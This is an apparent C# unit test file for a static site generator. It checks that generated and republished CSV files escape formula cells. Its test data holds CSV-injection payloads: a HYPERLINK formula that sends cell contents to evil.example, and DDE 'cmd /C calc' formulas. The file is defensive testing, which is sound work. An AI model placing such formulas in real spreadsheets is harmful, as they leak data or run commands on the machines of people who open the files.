using StaticMap.Tests.Support;
using static StaticMap.Tests.Support.TestSite;

namespace StaticMap.Tests.Hostile;

/// <summary>
/// CSV injection in the generated downloads (measurement-plan.csv and each chart's data CSV): text cells that start
/// with '=', '+', '-', '@', a tab or a carriage return are formulas to a spreadsheet that opens the file.
/// </summary>
public class CsvInjectionTests
{
    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    /// <remarks>Baseline and target values are plain numbers or MAP042 (NumberTests), so no formula reaches their cells.</remarks>
    private static TestSite WithFormulas()
    {
        var site = Valid();
        var i = 0;
        string Next() => HostileAssert.Quoted(Formulas[i++ % Formulas.Length]);
        site.Replace(Plan + "/measurement-plan.md", "    name: Staff hours", "    name: " + Next())
            .Replace(Plan + "/measurement-plan.md", "    source: Timesheets", "    source: " + Next())
            .Replace(Plan + "/measurement-plan.md", "    responsible: County\n", "    responsible: " + Next() + "\n")
            .Replace(Plan + "/theory-of-change.md", "      text: Staff time", "      text: " + Next())
            .Replace(Plan + "/findings.md", "    label: Youth jobs program placements", "    label: " + HostileAssert.Quoted(Formulas[0]));
        return site;
    }

    /// <summary>Whatever the cells hold, the file keeps its rows and columns: quotes, commas and line breaks are quoted.</summary>
    [Fact]
    public void Generated_csv_files_stay_well_formed()
    {
        using var site = WithFormulas();
        site.Replace(Plan + "/measurement-plan.md", "    name: People trained", "    name: \"Line one\\nLine two, with \\\"quotes\\\"\"");
        HostileAssert.BuildSucceedsSafely(site);
        var csv = File.ReadAllText(Path.Combine(site.Output, "test-county", "measurement-plan.csv"));
        var rows = ParseCsv(csv);
        var columns = rows[0].Count;
        Assert.All(rows, r => Assert.Equal(columns, r.Count));
        Assert.Equal(5, rows.Count);
        Assert.Contains(rows, r => r.Contains("Line one\nLine two, with \"quotes\""));
    }

    /// <summary>
    /// A text cell a spreadsheet would run as a formula is written with a leading apostrophe (OWASP's advice), so it
    /// shows as text; numbers such as -2 or +3 are left alone. The CSV writers are MetricCharts.CsvField
    /// (Rendering/Charts) and MeasurementPlanCsv (Rendering/Files), outside the hostile-input suite's files.
    /// </summary>
    [Fact]
    public void Formula_cells_in_generated_csv_are_neutralised()
    {
        using var site = WithFormulas();
        HostileAssert.BuildSucceedsSafely(site);
        foreach (var file in Directory.EnumerateFiles(site.Output, "*.csv", SearchOption.AllDirectories)
                     .Where(f => !f.Contains(Path.Combine("test-county", "data"), StringComparison.Ordinal)))
        {
            foreach (var cell in ParseCsv(File.ReadAllText(file)).SelectMany(r => r))
            {
                if (double.TryParse(cell, System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _)) continue;
                Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"{file}: formula cell {cell}");
            }
        }
    }

    /// <summary>RFC 4180, enough for the tests: quoted fields with doubled quotes and line breaks.</summary>
    private static List<List<string>> ParseCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { row.Add(field.ToString()); field.Clear(); }
            else if (c == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add(row);
                row = [];
            }
            else field.Append(c);
        }
        if (field.Length > 0 || row.Count > 0) { row.Add(field.ToString()); rows.Add(row); }
        return rows;
    }
}

/// <summary>
/// A CSV the site republishes as written (a plan's data/ and assets/, input/assets/) gets the generated CSVs' protection:
/// formula cells get a leading apostrophe; numbers and every other byte are kept, and a file without formulas is copied
/// byte for byte.
/// </summary>
public class RepublishedCsvTests
{
    [Fact]
    public void A_plans_own_csv_is_published_with_its_formula_cells_neutralised()
    {
        using var site = Valid();
        site.Write(Plan + "/data/notes.csv", "name,note\r\nA,=1+2\r\nB,\"+SUM(1,2)\"\r\nC,-2\r\nD,@x\r\nE,\"\t=1\"\r\nF,\"\r=1\"\r\nG,plain\r\n");
        site.Write("input/assets/list.csv", "a,b\n=HYPERLINK(\"x\"),1\n");
        HostileAssert.BuildSucceedsSafely(site);
        Assert.Equal("name,note\r\nA,'=1+2\r\nB,\"'+SUM(1,2)\"\r\nC,-2\r\nD,'@x\r\nE,'\t=1\r\nF,\"'\r=1\"\r\nG,plain\r\n",
            File.ReadAllText(Path.Combine(site.Output, "test-county/data/notes.csv")));
        Assert.Equal("a,b\n\"'=HYPERLINK(\"\"x\"\")\",1\n", File.ReadAllText(Path.Combine(site.Output, "assets/list.csv")));
    }

    [Fact]
    public void A_csv_without_formulas_is_published_byte_for_byte()
    {
        using var site = Valid();
        HostileAssert.BuildSucceedsSafely(site);
        Assert.Equal(File.ReadAllBytes(site.FullPath(Plan + "/data/jobs-program.csv")),
            File.ReadAllBytes(Path.Combine(site.Output, "test-county/data/jobs-program.csv")));
    }
}
